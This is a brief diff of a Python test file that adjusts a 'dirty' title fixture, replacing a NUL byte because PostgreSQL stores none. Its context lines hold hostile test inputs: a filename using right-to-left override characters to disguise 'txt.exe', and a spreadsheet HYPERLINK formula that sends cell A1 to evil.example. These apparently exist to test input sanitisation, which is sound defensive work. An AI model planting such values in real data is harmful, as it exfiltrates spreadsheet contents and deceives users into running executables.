@@ -21,7 +21,7 @@ from tests.dashboards.helpers import client_for
 from tests.factories import point
 from tests.governance.test_api_contract import token_client
 
-DIRTY_TITLE = "路面\x00塌\x07陷\u202etxt.exe\u2066"
+DIRTY_TITLE = "路面\x01塌\x07陷\u202etxt.exe\u2066"  # no NUL: PostgreSQL stores none
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
 
